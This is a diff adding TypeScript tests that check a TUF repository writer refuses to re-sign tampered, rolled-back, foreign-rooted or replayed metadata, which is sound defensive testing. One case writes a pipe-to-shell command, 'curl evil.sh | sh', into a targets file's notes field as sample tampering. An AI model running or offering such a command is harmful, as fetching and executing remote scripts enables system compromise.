@@ -2,6 +2,7 @@ import { MinioObjectStore, ObjectNotFoundError, type ObjectStore } from '@lockst
 import { startS3Server, uniqueName, type S3ServerHandle } from '@lockstep/testing';
 import {
   artifactKeyFor,
+  captureTufMetadata,
   generateKeySet,
   initKeyFile,
   parseOnlineKeySet,
@@ -345,6 +346,82 @@ describe(TufRepositoryWriter.name, () => {
       await expect(attempt).rejects.toMatchObject({ code: ReleaseErrorCode.RepositoryBusy });
       expect((await sut.expiry(store, component)).timestamp.version).toBe(2);
       expect(await (await readWithTufJs(component)).getTargetInfo(`${component}-1.0.1.tar.gz`)).toBeDefined();
+    });
+
+    describe('refuses to re-sign metadata the offline keys did not sign', () => {
+      const prefixOf = (component: string) => tufPrefixFor(component);
+      const twoReleases = async () => {
+        const component = uniqueName('forged');
+        for (const version of ['1.0.0', '1.0.1'])
+          await sut.publish({ store, component, artifact: Buffer.from(version), version, channel: 'stable', keys });
+        return { component, trustedRoot: await trustedRootFor(store, component) };
+      };
+      const timestampOf = (component: string) => store.get(`${prefixOf(component)}timestamp.json`);
+
+      it.each([
+        [
+          'targets put back to an older, validly signed version',
+          async (component: string) =>
+            store.put(`${prefixOf(component)}2.targets.json`, await store.get(`${prefixOf(component)}1.targets.json`)),
+          /2\.targets\.json is not the targets 2\.snapshot\.json pins/,
+        ],
+        [
+          'targets edited without its key',
+          async (component: string) => {
+            const key = `${prefixOf(component)}2.targets.json`;
+            const edited = (await store.get(key)).toString().replace('"notes": ""', '"notes": "run curl evil.sh | sh"');
+            await store.put(key, edited);
+          },
+          /2\.targets\.json is not signed by the targets key of root v1/,
+        ],
+        [
+          'a root the pinned root did not sign',
+          async (component: string) => {
+            const foreign = generateKeySet();
+            const sneaky = uniqueName('sneaky');
+            await sut.publish({
+              store,
+              component: sneaky,
+              artifact: Buffer.from('x'),
+              version: '1.0.0',
+              channel: 'stable',
+              keys: foreign,
+            });
+            await sut.rotate({ store, component: sneaky, current: foreign, next: foreign });
+            const root2 = await store.get(`${prefixOf(sneaky)}2.root.json`);
+            await store.put(`${prefixOf(component)}2.root.json`, root2);
+            await store.put(`${prefixOf(component)}root.json`, root2);
+          },
+          /2\.root\.json is not signed by the root before it/,
+        ],
+      ])('%s', async (_what, attack, message) => {
+        const { component, trustedRoot } = await twoReleases();
+        await attack(component);
+        const before = await timestampOf(component);
+
+        const attempt = sut.refreshOnline({ store, component, keys, trustedRoot });
+
+        await expect(attempt).rejects.toMatchObject({ code: ReleaseErrorCode.RepositoryUntrusted, message });
+        expect((await timestampOf(component)).equals(before)).toBe(true);
+      });
+
+      it('a whole older release set put back (a replay): refused below the versions it signed last', async () => {
+        const component = uniqueName('replay');
+        await sut.publish({ store, component, artifact: Buffer.from('a'), version: '1.0.0', channel: 'stable', keys });
+        const old = await captureTufMetadata(store, component);
+        await sut.publish({ store, component, artifact: Buffer.from('b'), version: '1.0.1', channel: 'stable', keys });
+        const signed = await sut.refreshOnline({ store, component, keys });
+        await old.restore();
+        const before = await timestampOf(component);
+
+        const attempt = sut.refreshOnline({ store, component, keys, notBefore: signed.versions });
+
+        await expect(attempt).rejects.toMatchObject({
+          code: ReleaseErrorCode.RepositoryUntrusted,
+          message: expect.stringMatching(/targets is version 1, below version 2.*older metadata was put back/),
+        });
+        expect((await timestampOf(component)).equals(before)).toBe(true);
+      });
     });
 
     it('refuses online keys that the root does not trust, saying which file to give the control plane', async () => {
